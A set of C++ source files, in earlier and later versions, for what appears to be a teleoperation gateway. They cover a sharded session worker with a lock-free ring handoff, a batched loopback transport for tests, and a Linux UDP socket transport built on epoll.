