// GatewayShard: one worker owning a disjoint subset of the gateway's
// sessions.
//
// The pump thread classifies datagrams and submits accepted ones to the
// owning shard's bounded queue; the shard worker (its own thread, or the
// pump thread in inline mode) drains the queue into per-session mailboxes
// and advances sessions in *rounds*: each round, every session with a
// pending datagram consumes exactly one and runs one control tick.
// Sessions in a round are processed in ascending session-id order and
// grouped kBatchLanes at a time, so the estimator solves and the plant
// substep loops of up to eight sessions run through the batched SoA
// kernels — the gateway serves N sessions at far less than N times the
// scalar cost, and because the batched kernels are bit-identical to the
// scalar ones, grouping never changes a verdict (tests/test_gateway.cpp
// asserts determinism at any shard count).
//
// Thread model: `queue_mutex_` guards only the submission queue (pump →
// worker handoff); `state_mutex_` guards the session engines and their
// stats (worker rounds vs. stats snapshots).  Engines are only ever
// advanced by their owning shard, so no engine state is shared between
// threads.
#pragma once

#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <thread>
#include <vector>

#include "common/realtime.hpp"
#include "dynamics/batch_model.hpp"
#include "obs/metrics.hpp"
#include "svc/session.hpp"
#include "svc/session_engine.hpp"

namespace rg::svc {

struct ShardConfig {
  SessionEngineConfig engine{};
  std::size_t index = 0;
  std::size_t max_queue = 8192;
  bool threaded = true;
  /// Per-session plant seed = base + session id (lanes share physics but
  /// not noise streams).
  std::uint64_t plant_seed_base = 1;
};

/// One unit of pump→shard work.
struct ShardItem {
  enum class Kind : std::uint8_t { kDatagram, kOpen, kClose };
  Kind kind = Kind::kDatagram;
  std::uint32_t session = 0;
  ItpBytes bytes{};
  std::uint64_t ingest_ns = 0;
};

/// Screening-side counters for one session (the shard's half of the
/// gateway stats; ingest counters live with the gateway's session table).
struct ShardSessionStats {
  std::uint64_t ticks = 0;
  std::uint64_t alarms = 0;
  std::uint64_t blocked = 0;
  std::uint64_t digest = 0;
  bool estop = false;  ///< PLC E-STOP latched (frozen at close for retired sessions)
};

class GatewayShard {
 public:
  explicit GatewayShard(const ShardConfig& config);
  ~GatewayShard();

  GatewayShard(const GatewayShard&) = delete;
  GatewayShard& operator=(const GatewayShard&) = delete;

  void start();
  void stop();

  /// Pump-thread handoff.  Datagram items are refused (returns false)
  /// when the queue is at capacity — the backpressure signal; control
  /// items (open/close) always enqueue.
  bool submit(const ShardItem& item);

  /// Inline mode: process everything currently queued on the caller's
  /// thread.  (Threaded shards do this on their worker.)
  void process_pending();

  /// Queue empty and no round in progress.
  [[nodiscard]] bool idle() const;

  [[nodiscard]] std::optional<ShardSessionStats> session_stats(std::uint32_t id) const;
  [[nodiscard]] std::uint64_t ticks() const noexcept;
  /// Deepest the submission queue has ever been (backpressure headroom).
  [[nodiscard]] std::size_t queue_high_watermark() const;

  /// One newly drifted session found by a drift scan.
  struct DriftAlarm {
    std::uint32_t session = 0;
    DriftVerdict verdict{};
  };

  /// Compare every active session's calibration sketch against the
  /// committed thresholds (core/quantile_sketch.hpp check_drift) and
  /// return the sessions that *newly* drifted — each session alarms at
  /// most once (latched until it is closed).  Sessions are scanned in
  /// ascending id, so the result is deterministic.  `checked` (optional)
  /// receives the number of sessions examined.  Runs off the tick path,
  /// under the shard's state lock.
  [[nodiscard]] std::vector<DriftAlarm> scan_drift(const DetectionThresholds& committed,
                                                   double percentile_value, double max_ratio,
                                                   std::uint64_t min_samples,
                                                   std::uint64_t* checked = nullptr);

  /// Copies of the active sessions' calibration sketches keyed by session
  /// id (empty when calibration is disabled).  The gateway merges these
  /// across shards in globally ascending id order, so the cohort sketch
  /// is invariant under the shard count.
  [[nodiscard]] std::vector<std::pair<std::uint32_t, ThresholdSketch>> session_sketches() const;

 private:
  struct LocalSession {
    explicit LocalSession(const SessionEngineConfig& cfg) : engine(cfg) {}
    SessionEngine engine;
    std::deque<std::pair<ItpBytes, std::uint64_t>> mailbox;
    bool drift_latched = false;  ///< session already raised its drift alarm
  };

  void worker_loop();
  void apply_items(const std::vector<ShardItem>& items);
  void run_rounds();
  RG_REALTIME void round_tick(std::vector<LocalSession*>& chunk,
                  std::vector<std::pair<ItpBytes, std::uint64_t>>& datagrams);

  ShardConfig config_;

  // --- pump → worker queue -------------------------------------------------
  mutable std::mutex queue_mutex_;
  std::condition_variable queue_cv_;
  std::vector<ShardItem> queue_;
  std::size_t queue_hwm_ = 0;
  bool stop_ = false;
  bool processing_ = false;

  // --- worker-side session state ------------------------------------------
  mutable std::mutex state_mutex_;
  std::map<std::uint32_t, std::unique_ptr<LocalSession>> sessions_;
  std::map<std::uint32_t, ShardSessionStats> retired_;
  std::uint64_t total_ticks_ = 0;

  /// Batched twin of the sessions' estimator model (sessions share the
  /// estimator config, so one batch model serves every group).
  BatchRavenModel est_model_;

  obs::MetricId latency_hist_;
  obs::MetricId round_lanes_hist_;
  obs::MetricId ticks_counter_;
  obs::MetricId queue_hwm_gauge_;

  std::thread worker_;
  bool started_ = false;
};

}  // namespace rg::svc
