// GatewayShard: one worker owning a disjoint subset of the gateway's
// sessions.
//
// The pump thread classifies datagrams and submits accepted ones to the
// owning shard's fixed-capacity lock-free SPSC ring
// (common/spsc_ring.hpp); the shard worker (its own thread, or the pump
// thread in inline mode) drains the ring in bursts into per-session
// mailboxes and advances sessions in *rounds*: each round, every session
// with a pending datagram consumes exactly one and runs one control
// tick.  Sessions in a round are processed in ascending session-id order
// and grouped kBatchLanes at a time, so the estimator solves and the
// plant substep loops of up to eight sessions run through the batched
// SoA kernels — the gateway serves N sessions at far less than N times
// the scalar cost, and because the batched kernels are bit-identical to
// the scalar ones, grouping never changes a verdict
// (tests/test_gateway.cpp asserts determinism at any shard count and any
// ingest batch size).
//
// Thread model: the ring is the only pump→worker channel and it is
// lock-free — the pump's submit() is one release store in the common
// case.  A full ring refuses datagram items (returns false — the
// backpressure signal; counted as rg.gw.shard.<i>.ring_full); control
// items (open/close) never drop: the pump spins the push (threaded mode)
// or drains the ring itself (inline mode) until there is room.  The
// worker sleeps on `wake_cv_` when the ring runs dry; the sleeping_ flag
// plus seq_cst fences on both sides close the lost-wakeup window without
// putting a lock on the push path.  `state_mutex_` guards the session
// engines and their stats (worker rounds vs. stats snapshots); engines
// are only ever advanced by their owning shard, so no engine state is
// shared between threads.  Completion is tracked as submitted_ (pump
// thread only) vs completed_ (under idle_mutex_): wait_idle() blocks the
// pump until every submitted item has been fully processed — the
// signaling replacement for sleep-polling drains.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <thread>
#include <vector>

#include "common/realtime.hpp"
#include "common/spsc_ring.hpp"
#include "common/thread_safety.hpp"
#include "dynamics/batch_model.hpp"
#include "obs/metrics.hpp"
#include "svc/session.hpp"
#include "svc/session_engine.hpp"

namespace rg::svc {

struct ShardConfig {
  SessionEngineConfig engine{};
  std::size_t index = 0;
  std::size_t max_queue = 8192;  ///< SPSC ring capacity (items)
  bool threaded = true;
  /// Per-session plant seed = base + session id (lanes share physics but
  /// not noise streams).
  std::uint64_t plant_seed_base = 1;
};

/// One unit of pump→shard work.
struct ShardItem {
  enum class Kind : std::uint8_t { kDatagram, kOpen, kClose };
  Kind kind = Kind::kDatagram;
  std::uint32_t session = 0;
  ItpBytes bytes{};
  std::uint64_t ingest_ns = 0;
};

/// Screening-side counters for one session (the shard's half of the
/// gateway stats; ingest counters live with the gateway's session table).
struct ShardSessionStats {
  std::uint64_t ticks = 0;
  std::uint64_t alarms = 0;
  std::uint64_t blocked = 0;
  std::uint64_t digest = 0;
  bool estop = false;  ///< PLC E-STOP latched (frozen at close for retired sessions)
};

class GatewayShard {
 public:
  explicit GatewayShard(const ShardConfig& config);
  ~GatewayShard();

  GatewayShard(const GatewayShard&) = delete;
  GatewayShard& operator=(const GatewayShard&) = delete;

  RG_THREAD(any) void start();
  RG_THREAD(any) void stop();

  /// Pump-thread handoff (single producer — only the pump may call
  /// this).  Datagram items are refused (returns false) when the ring is
  /// at capacity — the backpressure signal, counted as ring_full;
  /// control items (open/close) always enqueue, spinning or inline-
  /// draining until there is room.
  RG_REALTIME RG_THREAD(pump) bool submit(const ShardItem& item);

  /// Inline mode: process everything currently queued on the caller's
  /// thread.  (Threaded shards do this on their worker.)
  RG_THREAD(pump) void process_pending();

  /// Every submitted item drained *and* processed.  Pump thread only.
  [[nodiscard]] RG_THREAD(pump) bool idle() const;

  /// Block until every item submitted so far has been fully processed.
  /// Pump thread only (it is the producer, so submitted_ cannot advance
  /// underneath the wait).  Inline shards drain on the caller instead.
  RG_THREAD(pump) void wait_idle();

  [[nodiscard]] RG_THREAD(any) std::optional<ShardSessionStats> session_stats(std::uint32_t id) const;
  [[nodiscard]] RG_THREAD(any) std::uint64_t ticks() const noexcept;
  /// Deepest the submission ring has ever been (backpressure headroom).
  [[nodiscard]] RG_THREAD(any) std::size_t queue_high_watermark() const noexcept;
  /// Datagram submissions refused because the ring was full.
  [[nodiscard]] RG_THREAD(any) std::uint64_t ring_full() const noexcept;

  /// One newly drifted session found by a drift scan.
  struct DriftAlarm {
    std::uint32_t session = 0;
    DriftVerdict verdict{};
  };

  /// Compare every active session's calibration sketch against the
  /// committed thresholds (core/quantile_sketch.hpp check_drift) and
  /// return the sessions that *newly* drifted — each session alarms at
  /// most once (latched until it is closed).  Sessions are scanned in
  /// ascending id, so the result is deterministic.  `checked` (optional)
  /// receives the number of sessions examined.  Runs off the tick path,
  /// under the shard's state lock.
  [[nodiscard]] RG_THREAD(any) std::vector<DriftAlarm> scan_drift(const DetectionThresholds& committed,
                                                   double percentile_value, double max_ratio,
                                                   std::uint64_t min_samples,
                                                   std::uint64_t* checked = nullptr);

  /// Copies of the active sessions' calibration sketches keyed by session
  /// id (empty when calibration is disabled).  The gateway merges these
  /// across shards in globally ascending id order, so the cohort sketch
  /// is invariant under the shard count.
  [[nodiscard]] RG_THREAD(any) std::vector<std::pair<std::uint32_t, ThresholdSketch>> session_sketches() const;

 private:
  struct LocalSession {
    explicit LocalSession(const SessionEngineConfig& cfg) : engine(cfg) {}
    SessionEngine engine;
    std::deque<std::pair<ItpBytes, std::uint64_t>> mailbox;
    bool drift_latched = false;  ///< session already raised its drift alarm
  };

  /// Most items one ring drain moves before processing them (bounds the
  /// worker's burst buffer; the ring refills while a burst runs).
  static constexpr std::size_t kDrainBurst = 256;

  RG_THREAD(shard) void worker_loop();
  /// Nudge a sleeping worker after a push (no-op when it is running).
  RG_REALTIME RG_THREAD(pump) void wake_worker();
  RG_THREAD(shard) void drain_burst(std::vector<ShardItem>& burst);
  RG_THREAD(shard) void apply_items(const ShardItem* items, std::size_t n) RG_REQUIRES(state_mutex_);
  RG_THREAD(shard) void run_rounds() RG_REQUIRES(state_mutex_);
  RG_REALTIME RG_THREAD(shard) RG_DETERMINISTIC void round_tick(
      std::vector<LocalSession*>& chunk,
      std::vector<std::pair<ItpBytes, std::uint64_t>>& datagrams) RG_REQUIRES(state_mutex_);

  ShardConfig config_;

  // --- pump → worker ring --------------------------------------------------
  SpscRing<ShardItem> ring_;
  std::atomic<bool> stop_{false};
  std::atomic<std::uint64_t> ring_full_{0};
  std::atomic<std::size_t> queue_hwm_{0};

  // Worker sleep/wake (Dekker-style: producer seq_cst RMW on wake_seq_ +
  // sleeping_ check vs consumer RMW + ring-empty recheck under
  // wake_mutex_; the shared RMW stands in for a seq_cst fence so TSan
  // can model the ordering).
  std::mutex wake_mutex_;
  std::condition_variable wake_cv_;
  std::atomic<bool> sleeping_{false};
  std::atomic<std::uint64_t> wake_seq_{0};

  // Drain signaling: submitted_ is producer-owned (pump thread only);
  // completed_ advances under idle_mutex_ as bursts finish processing.
  std::uint64_t submitted_ = 0;
  mutable std::mutex idle_mutex_;
  std::condition_variable idle_cv_;
  std::uint64_t completed_ = 0;

  /// Burst buffer for inline drains (process_pending); the threaded
  /// worker keeps its own on its stack.
  std::vector<ShardItem> burst_;

  // --- worker-side session state ------------------------------------------
  mutable Mutex state_mutex_;
  std::map<std::uint32_t, std::unique_ptr<LocalSession>> sessions_ RG_GUARDED_BY(state_mutex_);
  std::map<std::uint32_t, ShardSessionStats> retired_ RG_GUARDED_BY(state_mutex_);
  std::uint64_t total_ticks_ RG_GUARDED_BY(state_mutex_) = 0;

  /// Batched twin of the sessions' estimator model (sessions share the
  /// estimator config, so one batch model serves every group).
  BatchRavenModel est_model_ RG_GUARDED_BY(state_mutex_);

  obs::MetricId latency_hist_;
  obs::MetricId round_lanes_hist_;
  obs::MetricId ticks_counter_;
  obs::MetricId queue_hwm_gauge_;
  obs::MetricId ring_full_counter_;

  std::thread worker_;
  bool started_ = false;
};

}  // namespace rg::svc
