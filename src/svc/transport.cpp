#include "svc/transport.hpp"

#include <cstdio>

namespace rg::svc {

std::string Endpoint::to_string() const {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u:%u", (ip >> 24) & 0xFF, (ip >> 16) & 0xFF,
                (ip >> 8) & 0xFF, ip & 0xFF, port);
  return buf;
}

void LoopbackTransport::inject(const Endpoint& from, std::span<const std::uint8_t> bytes) {
  inject(from, std::vector<std::uint8_t>{bytes.begin(), bytes.end()});
}

void LoopbackTransport::inject(const Endpoint& from, std::vector<std::uint8_t> bytes) {
  const std::lock_guard<std::mutex> lock(mutex_);
  queue_.push_back(Queued{from, std::move(bytes)});
}

std::size_t LoopbackTransport::poll(const Sink& sink, std::size_t max) {
  std::size_t delivered = 0;
  while (delivered < max) {
    Queued item;
    {
      const std::lock_guard<std::mutex> lock(mutex_);
      if (queue_.empty()) break;
      item = std::move(queue_.front());
      queue_.pop_front();
    }
    sink(item.from, std::span<const std::uint8_t>{item.bytes});
    ++delivered;
  }
  return delivered;
}

std::size_t LoopbackTransport::pending() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return queue_.size();
}

}  // namespace rg::svc
