#include "svc/transport.hpp"

#include <algorithm>
#include <cstdio>

#include "obs/metrics.hpp"

namespace rg::svc {

std::string Endpoint::to_string() const {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u:%u", (ip >> 24) & 0xFF, (ip >> 16) & 0xFF,
                (ip >> 8) & 0xFF, ip & 0xFF, port);
  return buf;
}

std::size_t Transport::poll(const Sink& sink, std::size_t max) {
  std::array<RxDatagram, 64> slots;
  std::size_t delivered = 0;
  while (delivered < max) {
    const std::size_t want = std::min(max - delivered, slots.size());
    const std::size_t n = poll_batch(std::span<RxDatagram>{slots.data(), want});
    if (n == 0) break;
    for (std::size_t i = 0; i < n; ++i) sink(slots[i].from, slots[i].payload());
    delivered += n;
  }
  return delivered;
}

LoopbackTransport::LoopbackTransport()
    : tx_batch_counter_(obs::Registry::global().counter("rg.gw.tx_batches")) {}

void LoopbackTransport::inject(const Endpoint& from, std::span<const std::uint8_t> bytes) {
  inject(from, std::vector<std::uint8_t>{bytes.begin(), bytes.end()});
}

void LoopbackTransport::inject(const Endpoint& from, std::vector<std::uint8_t> bytes) {
  const std::lock_guard<std::mutex> lock(mutex_);
  queue_.push_back(Queued{from, std::move(bytes)});
}

std::size_t LoopbackTransport::poll_batch(std::span<RxDatagram> slots) {
  const std::lock_guard<std::mutex> lock(mutex_);
  std::size_t filled = 0;
  while (filled < slots.size() && !queue_.empty()) {
    Queued& item = queue_.front();
    if (item.bytes.size() > kMaxTransportDatagram) {
      // Mirrors the socket transport: oversize datagrams die here.
      ++oversize_;
      queue_.pop_front();
      continue;
    }
    RxDatagram& slot = slots[filled];
    slot.from = item.from;
    slot.len = static_cast<std::uint16_t>(item.bytes.size());
    std::copy(item.bytes.begin(), item.bytes.end(), slot.bytes.begin());
    queue_.pop_front();
    ++filled;
  }
  return filled;
}

std::size_t LoopbackTransport::send_batch(std::span<const TxDatagram> slots) {
  if (slots.empty()) return 0;
  {
    const std::lock_guard<std::mutex> lock(mutex_);
    sent_.insert(sent_.end(), slots.begin(), slots.end());
  }
  obs::Registry::global().add(tx_batch_counter_);
  return slots.size();
}

std::vector<TxDatagram> LoopbackTransport::take_sent() {
  const std::lock_guard<std::mutex> lock(mutex_);
  std::vector<TxDatagram> out;
  out.swap(sent_);
  return out;
}

std::size_t LoopbackTransport::pending() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return queue_.size();
}

}  // namespace rg::svc
