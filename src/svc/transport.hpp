// Gateway transport abstraction.
//
// The teleoperation gateway (svc/gateway.hpp) consumes datagrams through
// this interface so every code path above the socket — session admission,
// sequence tracking, shard dispatch, detection — is testable without a
// network.  Two implementations ship:
//
//   LoopbackTransport   deterministic in-process queue (tests, benches,
//                       campaign reuse); inject() is thread-safe so a
//                       multi-threaded load generator can share one.
//   UdpSocketTransport  real non-blocking UDP socket drained via epoll
//                       (svc/udp_transport.hpp).
//
// Transports are pull-based and batched: the gateway's pump() calls
// poll_batch(), which fills caller-owned fixed-size slots with up to a
// whole batch of pending datagrams per call — one recvmmsg on the UDP
// transport, one lock acquisition on the loopback — instead of paying a
// syscall (or a mutex round-trip) per datagram.  The legacy one-datagram
// sink API, poll(), survives as a convenience adapter over poll_batch()
// so existing callers keep working.
//
// The egress mirror, send_batch(), ships a batch of datagrams in one
// sendmmsg (UDP) or one queue append (loopback, for tests); it exists
// for gateway-originated traffic (feedback/ACK channels) and counts
// rg.gw.tx_batches per call.  A datagram is (endpoint, bytes); the
// transport attaches no meaning to the payload.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <span>
#include <string>
#include <vector>

namespace rg::svc {

/// IPv4 source endpoint — the session key.  Host byte order.
struct Endpoint {
  std::uint32_t ip = 0;
  std::uint16_t port = 0;

  friend bool operator==(const Endpoint&, const Endpoint&) = default;

  /// "a.b.c.d:port" (diagnostics, stats dumps).
  [[nodiscard]] std::string to_string() const;
};

struct EndpointHash {
  [[nodiscard]] std::size_t operator()(const Endpoint& ep) const noexcept {
    // splitmix64 finalizer over the packed 48 bits.
    std::uint64_t x = (static_cast<std::uint64_t>(ep.ip) << 16) | ep.port;
    x ^= x >> 30;
    x *= 0xbf58476d1ce4e5b9ULL;
    x ^= x >> 27;
    x *= 0x94d049bb133111ebULL;
    x ^= x >> 31;
    return static_cast<std::size_t>(x);
  }
};

/// Largest datagram the batch path carries.  Anything bigger is not a
/// valid ITP frame (30 bytes, 38 with MAC) and is dropped at the
/// transport, counted as oversize.
inline constexpr std::size_t kMaxTransportDatagram = 64;

/// One slot of a batched receive: fixed inline storage, so a whole batch
/// is filled without a single allocation.
struct RxDatagram {
  Endpoint from{};
  std::uint16_t len = 0;
  std::array<std::uint8_t, kMaxTransportDatagram> bytes{};

  [[nodiscard]] std::span<const std::uint8_t> payload() const noexcept {
    return {bytes.data(), len};
  }
};

/// One slot of a batched send.
struct TxDatagram {
  Endpoint to{};
  std::uint16_t len = 0;
  std::array<std::uint8_t, kMaxTransportDatagram> bytes{};

  void assign(const Endpoint& dest, std::span<const std::uint8_t> payload) noexcept {
    to = dest;
    len = static_cast<std::uint16_t>(payload.size() <= kMaxTransportDatagram
                                         ? payload.size()
                                         : kMaxTransportDatagram);
    for (std::size_t i = 0; i < len; ++i) bytes[i] = payload[i];
  }
};

class Transport {
 public:
  /// Receives one drained datagram.  The span is only valid for the call.
  using Sink = std::function<void(const Endpoint& from, std::span<const std::uint8_t> bytes)>;

  virtual ~Transport() = default;

  /// Fill up to `slots.size()` slots with pending datagrams without
  /// blocking.  Returns the number filled (0 = nothing pending).  This is
  /// the gateway's hot path: implementations drain a whole batch per
  /// syscall / lock acquisition.
  virtual std::size_t poll_batch(std::span<RxDatagram> slots) = 0;

  /// Ship `slots` (all of them, best-effort) without blocking.  Returns
  /// the number actually sent.  Implementations count one
  /// rg.gw.tx_batches per call.
  virtual std::size_t send_batch(std::span<const TxDatagram> slots) = 0;

  /// Drain up to `max` pending datagrams into `sink` without blocking.
  /// Returns the number delivered.  Convenience adapter over
  /// poll_batch() for callers that want per-datagram delivery.
  std::size_t poll(const Sink& sink, std::size_t max);

  /// Human-readable descriptor ("loopback", "udp:127.0.0.1:7413").
  [[nodiscard]] virtual std::string describe() const = 0;
};

/// Deterministic in-process transport: inject() appends, poll_batch()
/// drains FIFO.  Injection is mutex-guarded so load-generator threads can
/// share one instance; drain order is injection order, so single-producer
/// runs are bit-reproducible — and a whole batch is moved out under one
/// lock acquisition, so the determinism tests exercise the same batched
/// drain shape as the real socket path.
class LoopbackTransport final : public Transport {
 public:
  LoopbackTransport();

  void inject(const Endpoint& from, std::span<const std::uint8_t> bytes);
  void inject(const Endpoint& from, std::vector<std::uint8_t> bytes);

  std::size_t poll_batch(std::span<RxDatagram> slots) override;
  std::size_t send_batch(std::span<const TxDatagram> slots) override;
  [[nodiscard]] std::string describe() const override { return "loopback"; }

  [[nodiscard]] std::size_t pending() const;

  /// Everything send_batch() shipped, in order, moved out (tests).
  [[nodiscard]] std::vector<TxDatagram> take_sent();

 private:
  struct Queued {
    Endpoint from;
    std::vector<std::uint8_t> bytes;
  };
  mutable std::mutex mutex_;
  std::deque<Queued> queue_;
  std::vector<TxDatagram> sent_;
  std::uint64_t oversize_ = 0;
  std::uint32_t tx_batch_counter_ = 0;  ///< obs::MetricId
};

}  // namespace rg::svc
