// Gateway transport abstraction.
//
// The teleoperation gateway (svc/gateway.hpp) consumes datagrams through
// this interface so every code path above the socket — session admission,
// sequence tracking, shard dispatch, detection — is testable without a
// network.  Two implementations ship:
//
//   LoopbackTransport   deterministic in-process queue (tests, benches,
//                       campaign reuse); inject() is thread-safe so a
//                       multi-threaded load generator can share one.
//   UdpSocketTransport  real non-blocking UDP socket drained via epoll
//                       (svc/udp_transport.hpp).
//
// Transports are pull-based: the gateway's pump() calls poll(), which
// drains up to `max` pending datagrams into a sink callback.  A datagram
// is (source endpoint, bytes); the transport attaches no meaning to the
// payload.
#pragma once

#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <span>
#include <string>
#include <vector>

namespace rg::svc {

/// IPv4 source endpoint — the session key.  Host byte order.
struct Endpoint {
  std::uint32_t ip = 0;
  std::uint16_t port = 0;

  friend bool operator==(const Endpoint&, const Endpoint&) = default;

  /// "a.b.c.d:port" (diagnostics, stats dumps).
  [[nodiscard]] std::string to_string() const;
};

struct EndpointHash {
  [[nodiscard]] std::size_t operator()(const Endpoint& ep) const noexcept {
    // splitmix64 finalizer over the packed 48 bits.
    std::uint64_t x = (static_cast<std::uint64_t>(ep.ip) << 16) | ep.port;
    x ^= x >> 30;
    x *= 0xbf58476d1ce4e5b9ULL;
    x ^= x >> 27;
    x *= 0x94d049bb133111ebULL;
    x ^= x >> 31;
    return static_cast<std::size_t>(x);
  }
};

class Transport {
 public:
  /// Receives one drained datagram.  The span is only valid for the call.
  using Sink = std::function<void(const Endpoint& from, std::span<const std::uint8_t> bytes)>;

  virtual ~Transport() = default;

  /// Drain up to `max` pending datagrams into `sink` without blocking.
  /// Returns the number delivered.
  virtual std::size_t poll(const Sink& sink, std::size_t max) = 0;

  /// Human-readable descriptor ("loopback", "udp:127.0.0.1:7413").
  [[nodiscard]] virtual std::string describe() const = 0;
};

/// Deterministic in-process transport: inject() appends, poll() drains
/// FIFO.  Injection is mutex-guarded so load-generator threads can share
/// one instance; drain order is injection order, so single-producer runs
/// are bit-reproducible.
class LoopbackTransport final : public Transport {
 public:
  void inject(const Endpoint& from, std::span<const std::uint8_t> bytes);
  void inject(const Endpoint& from, std::vector<std::uint8_t> bytes);

  std::size_t poll(const Sink& sink, std::size_t max) override;
  [[nodiscard]] std::string describe() const override { return "loopback"; }

  [[nodiscard]] std::size_t pending() const;

 private:
  struct Queued {
    Endpoint from;
    std::vector<std::uint8_t> bytes;
  };
  mutable std::mutex mutex_;
  std::deque<Queued> queue_;
};

}  // namespace rg::svc
