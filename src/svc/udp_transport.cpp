#include "svc/udp_transport.hpp"

#include <cerrno>
#include <cstring>
#include <stdexcept>

#if defined(__linux__)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>
#endif

namespace rg::svc {

#if defined(__linux__)

namespace {

[[noreturn]] void fail(const char* what) {
  throw std::runtime_error(std::string{"UdpSocketTransport: "} + what + ": " +
                           std::strerror(errno));
}

}  // namespace

UdpSocketTransport::UdpSocketTransport(const UdpSocketConfig& config)
    : bind_address_(config.bind_address) {
  fd_ = ::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd_ < 0) fail("socket");

  if (config.reuse_port) {
    const int one = 1;
    if (::setsockopt(fd_, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)) != 0) {
      ::close(fd_);
      fail("setsockopt(SO_REUSEPORT)");
    }
  }
  if (config.recv_buffer_bytes > 0) {
    // Best-effort: the kernel clamps to rmem_max; a small buffer only
    // costs burst absorption, not correctness.
    (void)::setsockopt(fd_, SOL_SOCKET, SO_RCVBUF, &config.recv_buffer_bytes,
                       sizeof(config.recv_buffer_bytes));
  }

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config.port);
  if (::inet_pton(AF_INET, config.bind_address.c_str(), &addr.sin_addr) != 1) {
    ::close(fd_);
    throw std::runtime_error("UdpSocketTransport: invalid bind address: " +
                             config.bind_address);
  }
  // rg-lint: allow(cast) -- BSD sockets API: sockaddr_in is the sockaddr it poses as
  if (::bind(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(fd_);
    fail("bind");
  }

  sockaddr_in bound{};
  socklen_t len = sizeof(bound);
  // rg-lint: allow(cast) -- BSD sockets API: sockaddr_in is the sockaddr it poses as
  if (::getsockname(fd_, reinterpret_cast<sockaddr*>(&bound), &len) != 0) {
    ::close(fd_);
    fail("getsockname");
  }
  bound_port_ = ntohs(bound.sin_port);

  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) {
    ::close(fd_);
    fail("epoll_create1");
  }
  epoll_event ev{};
  ev.events = EPOLLIN;
  ev.data.fd = fd_;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, fd_, &ev) != 0) {
    ::close(epoll_fd_);
    ::close(fd_);
    fail("epoll_ctl(ADD)");
  }
}

UdpSocketTransport::~UdpSocketTransport() {
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
  if (fd_ >= 0) ::close(fd_);
}

std::size_t UdpSocketTransport::poll(const Sink& sink, std::size_t max) {
  epoll_event ev{};
  const int ready = ::epoll_wait(epoll_fd_, &ev, 1, /*timeout_ms=*/0);
  if (ready <= 0) return 0;

  std::size_t delivered = 0;
  // One extra byte of buffer distinguishes "exactly kMaxDatagram" from
  // "truncated" without MSG_TRUNC bookkeeping.
  std::uint8_t buf[kMaxDatagram + 1];
  while (delivered < max) {
    sockaddr_in from{};
    socklen_t from_len = sizeof(from);
    const ssize_t n = ::recvfrom(fd_, buf, sizeof(buf), MSG_DONTWAIT,
                                 reinterpret_cast<sockaddr*>(&from),  // rg-lint: allow(cast)
                                 &from_len);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) break;
      break;  // transient socket errors: stop this pass, next pump retries
    }
    if (static_cast<std::size_t>(n) > kMaxDatagram) {
      ++oversize_;
      continue;
    }
    const Endpoint ep{ntohl(from.sin_addr.s_addr), ntohs(from.sin_port)};
    sink(ep, std::span<const std::uint8_t>{buf, static_cast<std::size_t>(n)});
    ++delivered;
  }
  return delivered;
}

std::string UdpSocketTransport::describe() const {
  return "udp:" + bind_address_ + ":" + std::to_string(bound_port_);
}

#else  // !__linux__

UdpSocketTransport::UdpSocketTransport(const UdpSocketConfig&) {
  throw std::runtime_error("UdpSocketTransport requires Linux (epoll)");
}
UdpSocketTransport::~UdpSocketTransport() = default;
std::size_t UdpSocketTransport::poll(const Sink&, std::size_t) { return 0; }
std::string UdpSocketTransport::describe() const { return "udp:unsupported"; }

#endif

}  // namespace rg::svc
